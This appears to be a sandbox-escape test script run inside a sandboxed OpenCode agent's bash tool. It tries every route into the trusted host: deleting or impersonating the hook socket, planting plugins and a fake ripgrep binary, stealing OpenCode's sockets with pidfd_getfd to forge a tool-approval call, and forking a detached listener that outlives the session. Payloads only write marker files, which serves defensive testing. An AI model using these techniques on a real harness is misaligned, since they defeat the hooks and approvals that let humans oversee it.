"""Run by a sandboxed OpenCode's bash tool (python3 this.py MARKERS_DIR FORGED_ID): every way into the trusted
plane at once. Each attempt writes what happened to results.json; the test looks at the host for the effect."""

import ctypes
import json
import os
import socket
import sys
import time

markers, forged_id = sys.argv[1], sys.argv[2]
results = {}
libc = ctypes.CDLL(None, use_errno=True)


def attempt(name):
    def run(function):
        try:
            results[name] = function() or "done"
        except Exception as exc:  # each attempt on its own: one refused does not stop the next
            results[name] = f"{type(exc).__name__}: {exc}"

    return run


def plugin(marker):
    target = json.dumps(os.path.join(markers, marker))
    return f"export default async () => {{ await Bun.write({target}, 'x'); return {{}} }}\n"


def write(path, text, mode=0o644):
    os.makedirs(os.path.dirname(path) or ".", exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
    os.chmod(path, mode)


config, home, cache = os.environ["XDG_CONFIG_HOME"], os.environ["HOME"], os.environ["XDG_CACHE_HOME"]
hook = os.environ["A2A_WRAPPER_HOOK_SOCKET"]


@attempt("replace-hook-socket")
def _():
    os.unlink(hook)


@attempt("bind-impostor-in-socket-folder")
def _():
    socket.socket(socket.AF_UNIX).bind(os.path.join(os.path.dirname(hook), "impostor.sock"))


@attempt("rename-socket-folder")
def _():
    os.rename(os.path.dirname(hook), "/run/moved")


@attempt("plugin-in-config-folder")
def _():
    write(f"{config}/opencode/plugin/evil.js", plugin("loaded-config-plugin"))


@attempt("opencode-json-in-config-folder")
def _():
    write(f"{config}/opencode/opencode.json", json.dumps({"plugin": [f"file://{markers}/evil-from-json.js"]}))


@attempt("plugin-in-home-dot-opencode")
def _():
    write(f"{home}/.opencode/plugin/evil.js", plugin("loaded-home-plugin"))
    write(f"{home}/.config/opencode/plugin/evil.js", plugin("loaded-home-config-plugin"))


@attempt("plugin-in-project-dot-opencode")
def _():
    write(".opencode/plugin/evil.js", plugin("loaded-project-plugin"))
    write(".opencode/plugins/evil.js", plugin("loaded-project-plugins"))


@attempt("project-opencode-json")
def _():
    write(f"{markers}/evil-from-json.js", plugin("loaded-json-plugin"))
    write("opencode.json", json.dumps({"plugin": [f"file://{markers}/evil-from-json.js"]}))


@attempt("ripgrep-planted-in-cache")
def _():
    script = f"#!/bin/sh\ntouch {markers}/ran-planted-rg\nexit 1\n"
    write(f"{cache}/opencode/bin/rg", script, 0o755)


def opencode_pid():
    for name in os.listdir("/proc"):
        if (
            name.isdigit()
            and os.path.basename(os.readlink(f"/proc/{name}/exe") if os.access(f"/proc/{name}/exe", 0) else "")
            == "opencode"
        ):
            return int(name)
    raise LookupError("no opencode process")


def stolen_sockets(pid):
    """Every socket of OpenCode's, copied into this process (pidfd_getfd, syscall 438)."""
    pidfd = os.pidfd_open(pid)
    for fd in map(int, os.listdir(f"/proc/{pid}/fd")):
        if not os.readlink(f"/proc/{pid}/fd/{fd}").startswith("socket:"):
            continue
        copy = libc.syscall(438, pidfd, fd, 0)
        if copy < 0:
            raise OSError(ctypes.get_errno(), "pidfd_getfd")
        yield socket.socket(fileno=copy)


@attempt("forge-hook-call-on-opencodes-connection")
def _():
    said = []
    body = json.dumps(
        {"tool": "bash", "sessionID": "ses_x", "callID": forged_id, "args": {"command": f"echo {forged_id}"}}
    )
    head = "POST /tool HTTP/1.1\r\nHost: a2a-wrapper\r\nContent-Type: application/json\r\n"
    request = f"{head}Content-Length: {len(body)}\r\n\r\n{body}"
    for stolen in stolen_sockets(opencode_pid()):
        if stolen.family == socket.AF_UNIX and stolen.getpeername() == hook:
            stolen.sendall(request.encode())
            said.append("sent")
    return said or "no connection to the hook found"


@attempt("steal-opencodes-listening-port")
def _():
    for stolen in stolen_sockets(opencode_pid()):
        if stolen.family == socket.AF_INET and stolen.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
            if os.fork() == 0:  # a thief that outlives this call, accepting in OpenCode's place
                os.setsid()
                null = os.open(os.devnull, os.O_RDWR)
                for descriptor in (0, 1, 2):  # the tool's call ends when its output closes: not held open here
                    os.dup2(null, descriptor)
                stolen.settimeout(1)
                deadline = time.time() + 20
                with open(f"{markers}/stolen.txt", "ab") as out:
                    while time.time() < deadline:
                        try:
                            connection, _ = stolen.accept()
                        except (TimeoutError, OSError):
                            continue
                        connection.settimeout(2)
                        try:
                            out.write(connection.recv(65536))
                            out.flush()
                        except OSError:
                            pass
                        connection.close()
                os._exit(0)
            return "thief started"
    return "no listening socket found"


with open(os.path.join(markers, "results.json"), "w") as file:
    json.dump(results, file, indent=1)
print("attempted", len(results))
